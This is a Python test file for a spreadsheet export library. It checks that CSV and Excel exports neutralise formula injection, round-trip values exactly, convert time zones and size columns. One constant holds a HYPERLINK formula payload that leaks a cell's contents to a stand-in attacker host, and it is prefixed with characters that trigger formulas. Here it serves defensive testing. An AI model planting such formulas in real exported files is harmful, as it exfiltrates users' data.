"""Exports of tables as Excel and CSV: formulas neutralised, exact round trips, layout."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from pmwidgets.io.errors import ImportFailed
from pmwidgets.io.sheets.frames import (
    MAX_WIDTH,
    frames_to_csv,
    frames_to_xlsx,
    safe_cell,
    xlsx_to_frames,
)

#: every start that makes some spreadsheet run a cell as a formula
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: the full-width forms, which some spreadsheets and input methods turn into the above
FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_safe_cell_quotes_only_text_that_could_run() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("'already quoted") == "''already quoted"
    assert safe_cell("Cut delays by 20%") == "Cut delays by 20%"
    assert safe_cell("a=b") == "a=b"
    day = dt.date(2027, 6, 30)
    for value in (-5, -2.5, 0, day, dt.datetime(2027, 1, 1, 9), True, None):
        assert safe_cell(value) == value
        assert type(safe_cell(value)) is type(value)


@pytest.mark.parametrize("prefix", DANGEROUS + FULL_WIDTH, ids=repr)
def test_formula_injection_is_neutralised_in_xlsx(prefix: str) -> None:
    frame = pd.DataFrame({"title": [prefix + PAYLOAD], "weight": [-5]})
    data = frames_to_xlsx({"Objectives": frame})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Objectives"]  # formulas not evaluated
    cell = sheet["A2"]
    assert cell.data_type == "s", "text must be stored as text, never as a formula"
    assert isinstance(cell.value, str) and cell.value.startswith("'")
    assert PAYLOAD in cell.value
    number = sheet["B2"]
    assert number.value == -5 and number.data_type == "n", "a negative number stays a number"
    # nothing in the file is a formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("prefix", DANGEROUS + FULL_WIDTH, ids=repr)
def test_formula_injection_is_neutralised_in_csv(prefix: str) -> None:
    frame = pd.DataFrame({prefix + "heading": [prefix + PAYLOAD], "weight": [-5]})
    text = frames_to_csv({"objectives": frame})["objectives"]
    rows = _csv_rows(text)
    assert rows[0][0] == "'" + prefix + "heading"
    assert rows[1][0] == "'" + prefix + PAYLOAD
    assert rows[1][1] == "-5", "a negative number is written as a number, unquoted"


def test_excel_round_trip_is_exact() -> None:
    frame = pd.DataFrame(
        {
            "title": [*(p + "x" for p in DANGEROUS[:-1]), "'quoted", "Łódź — Ωμέγα, Анна", None],
            "notes": ["line one\nline two", "", "<b>bold</b>", "a", "b", "c", "d", "e"],
            "count": [1, -2, 3, 0, 5, 6, 7, 8],
            "share": [1.5, 2.0, -3.25, 0.0, 1e-3, 2.5, 3.0, float("nan")],
            "due": [dt.date(2027, 1, d) for d in range(1, 8)] + [None],
            "at": pd.to_datetime([f"2026-09-0{d} 09:1{d}:0{d}" for d in range(1, 8)] + [None]),
            "day": pd.to_datetime([f"2026-10-0{d}" for d in range(1, 8)] + [None]),
            "done": [True, False, True, False, True, False, True, False],
        }
    )
    back = xlsx_to_frames(frames_to_xlsx({"Objectives": frame, "Empty": frame.head(0)}))
    assert list(back) == ["Objectives", "Empty"]
    expected = frame.copy()
    expected.loc[1, "notes"] = None  # Excel cannot tell empty text from an empty cell
    pd.testing.assert_frame_equal(back["Objectives"], expected)
    assert list(back["Empty"].columns) == list(frame.columns)
    assert back["Empty"].empty


def test_carriage_returns_and_control_characters_in_excel() -> None:
    frame = pd.DataFrame({"t": ["a\r\nb", "c\rd", "bell\x07", "\x01=1+1"]})
    back = xlsx_to_frames(frames_to_xlsx({"t": frame}))["t"]
    assert list(back["t"]) == ["a\nb", "c\nd", "bell", "=1+1"]
    sheet = openpyxl.load_workbook(io.BytesIO(frames_to_xlsx({"t": frame})))["t"]
    assert sheet["A5"].value == "'=1+1", "text that becomes a formula once cleaned is quoted"


def test_timestamps_at_midnight_are_shown_as_dates() -> None:
    frame = pd.DataFrame(
        {
            "due": pd.to_datetime(["2027-06-30", "2027-07-31"]),
            "at": pd.to_datetime(["2027-06-30 00:00", "2027-07-31 12:00"]),
        }
    )
    data = frames_to_xlsx({"o": frame})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["o"]
    assert sheet["A2"].is_date and "h" not in sheet["A2"].number_format.lower()
    assert "h" in sheet["B2"].number_format.lower()
    pd.testing.assert_frame_equal(xlsx_to_frames(data)["o"], frame)


def test_timezone_aware_timestamps_become_naive_utc() -> None:
    at = pd.Timestamp("2026-09-15 11:56:00", tz="Europe/London")
    frame = pd.DataFrame({"at": [at]})
    sheet = openpyxl.load_workbook(io.BytesIO(frames_to_xlsx({"a": frame})))["a"]
    assert sheet["A2"].value == dt.datetime(2026, 9, 15, 10, 56)
    back = xlsx_to_frames(frames_to_xlsx({"a": frame}))["a"]
    assert back["at"][0] == pd.Timestamp("2026-09-15 10:56:00")
    rows = _csv_rows(frames_to_csv({"a": frame})["a"])
    assert rows[1] == ["2026-09-15T10:56:00+00:00"]


def test_sheets_header_and_widths() -> None:
    long_text = "word " * 100
    frames = {
        "Objectives": pd.DataFrame(
            {"id": [1, 2], "description": [long_text, "short"], "due": [dt.date(2027, 6, 30)] * 2}
        ),
        "A name that is far too long for an Excel sheet": pd.DataFrame({"x": [1]}),
        "A name that is far too long for an Excel sheet, again": pd.DataFrame({"x": [2]}),
        "bad/name?": pd.DataFrame({"x": [3]}),
    }
    book = openpyxl.load_workbook(io.BytesIO(frames_to_xlsx(frames)))
    names = book.sheetnames
    assert names[0] == "Objectives"
    assert all(len(n) <= 31 for n in names)
    assert len(set(names)) == 4, names
    assert names[3] == "bad_name_"
    sheet = book["Objectives"]
    assert [c.value for c in sheet[1]] == ["id", "description", "due"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    widths = {k: sheet.column_dimensions[k].width for k in "ABC"}
    assert widths["B"] == MAX_WIDTH, "a long text column is capped"
    assert 8 <= widths["A"] < 20
    assert widths["C"] >= 10, "a date column is wide enough for yyyy-mm-dd"
    due = sheet["C2"]
    assert due.is_date and due.number_format == "yyyy-mm-dd"


def test_named_index_is_kept_as_a_column() -> None:
    frame = pd.DataFrame({"weight": [35, 25]}, index=pd.Index([1, 2], name="objective"))
    back = xlsx_to_frames(frames_to_xlsx({"w": frame}))["w"]
    assert list(back.columns) == ["objective", "weight"]
    assert list(back["objective"]) == [1, 2]
    rows = _csv_rows(frames_to_csv({"w": frame})["w"])
    assert rows == [["objective", "weight"], ["1", "35"], ["2", "25"]]


def test_csv_values() -> None:
    frame = pd.DataFrame(
        {
            "title": ["Łódź", None],
            "due": [dt.date(2027, 6, 30), None],
            "done": [True, False],
            "weight": [35, 25],
        }
    )
    rows = _csv_rows(frames_to_csv({"o": frame})["o"])
    assert rows == [
        ["title", "due", "done", "weight"],
        ["Łódź", "2027-06-30", "TRUE", "35"],
        ["", "", "FALSE", "25"],
    ]


def test_reading_a_file_that_is_not_a_workbook_fails_in_one_line() -> None:
    with pytest.raises(ImportFailed) as caught:
        xlsx_to_frames(b"this is not a zip", name="export.xlsx")
    message = str(caught.value)
    assert message.startswith("export.xlsx:")
    assert "not a zip" in message and "\n" not in message
